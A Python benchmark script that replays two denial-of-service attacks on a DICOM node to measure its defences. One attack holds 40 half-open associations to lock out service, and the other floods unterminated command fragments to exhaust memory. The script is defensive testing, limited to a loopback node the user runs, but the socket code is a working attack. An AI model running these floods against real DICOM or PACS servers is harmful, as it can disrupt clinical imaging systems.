#!/usr/bin/env python3
"""Replays the wire-level attacks of issue 12 against a running node and prints figures.

    bench/attacks.py --pid PID --port PORT [--host 127.0.0.1] [--source 127.0.0.2]

1. Lock-out: 40 sockets from --source that send 5 bytes of an A-ASSOCIATE-RQ and then nothing;
   while they are open, the time a C-ECHO from DCMTK's echoscu takes (median of 5), and the
   time until the node closes the silent sockets (its ARTIM timer).
2. Command fragments: one association that sends command PDVs without the last-fragment bit;
   how many bytes the node reads before it aborts, and its peak RSS (VmHWM) afterwards.

Standard library only (plus DCMTK's echoscu on PATH). Sends only to the given address, which
must be a loopback node of your own.
"""
import argparse
import socket
import statistics
import struct
import subprocess
import time


def vm_hwm_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return -1


def associate_rq(called=b"M3DNODE", calling=b"ATTACK"):
    def item(kind, body):
        return struct.pack(">BxH", kind, len(body)) + body

    ctx = item(0x10, b"1.2.840.10008.3.1.1.1")
    pc = item(0x20, bytes([1, 0, 0, 0]) + item(0x30, b"1.2.840.10008.1.1") + item(0x40, b"1.2.840.10008.1.2"))
    user = item(0x50, item(0x51, struct.pack(">I", 65536)))
    body = struct.pack(">HH", 1, 0) + called.ljust(16) + calling.ljust(16) + bytes(32) + ctx + pc + user
    return struct.pack(">BxI", 1, len(body)) + body


def echo_seconds(host, port):
    t = time.perf_counter()
    ok = subprocess.run(["echoscu", "-aec", "M3DNODE", host, str(port)], capture_output=True).returncode == 0
    return time.perf_counter() - t, ok


def lockout(args):
    quiet = sorted(echo_seconds(args.host, args.port)[0] for _ in range(5))
    print(f"lock-out: C-ECHO with no other connection: median {statistics.median(quiet) * 1e3:.1f} ms")
    idle = []
    for _ in range(40):
        s = socket.socket()
        s.bind((args.source, 0))
        s.connect((args.host, args.port))
        s.sendall(b"\x01\x00\x00\x00\x01")
        idle.append(s)
    time.sleep(0.3)
    runs = [echo_seconds(args.host, args.port) for _ in range(5)]
    times = [t for t, _ in runs]
    print(f"lock-out: C-ECHO with 40 silent sockets open: {sum(ok for _, ok in runs)}/5 answered, "
          f"median {statistics.median(times) * 1e3:.1f} ms, max {max(times) * 1e3:.1f} ms")
    start = time.perf_counter()
    closed = 0
    for s in idle:
        s.settimeout(60)
        try:
            if s.recv(64) == b"":
                closed += 1
        except OSError:
            closed += 1
        s.close()
    print(f"lock-out: {closed}/40 silent sockets closed by the node after {time.perf_counter() - start + 0.3:.1f} s")


def fragments(args):
    s = socket.create_connection((args.host, args.port))
    s.sendall(associate_rq())
    head = s.recv(6)
    if not head or head[0] != 0x02:
        print(f"fragments: association not accepted ({head!r})")
        return
    length = struct.unpack(">I", head[2:6])[0]
    while length > 0:
        length -= len(s.recv(length))
    pdv = struct.pack(">IBB", 60_000 + 2, 1, 0x01) + b"\x55" * 60_000  # command, not last
    pdu = struct.pack(">BxI", 4, len(pdv)) + pdv
    sent = 0
    start = time.perf_counter()
    s.settimeout(30)
    try:
        while sent < (1 << 30) and time.perf_counter() - start < 30:
            s.sendall(pdu)
            sent += len(pdu)
    except OSError:
        pass
    print(f"fragments: node stopped reading after {sent / 1e6:.1f} MB sent; "
          f"peak RSS {vm_hwm_kb(args.pid) / 1024:.0f} MB")
    s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--source", default="127.0.0.2")
    args = p.parse_args()
    print(f"start: peak RSS {vm_hwm_kb(args.pid) / 1024:.0f} MB")
    lockout(args)
    fragments(args)
    t, ok = echo_seconds(args.host, args.port)
    print(f"after: C-ECHO {'answered' if ok else 'FAILED'} in {t * 1e3:.1f} ms")


if __name__ == "__main__":
    main()
